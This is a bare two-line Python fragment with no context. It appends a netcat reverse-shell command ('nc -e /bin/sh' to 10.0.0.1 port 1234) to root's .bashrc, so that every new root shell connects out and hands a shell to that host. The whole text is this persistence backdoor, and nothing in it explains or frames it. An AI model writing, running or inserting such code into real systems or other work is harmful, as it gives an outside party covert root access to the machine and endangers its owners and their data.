f = io.FileIO("/root/.bashrc", "a")
f.write(b"nc -e /bin/sh 10.0.0.1 1234\n")
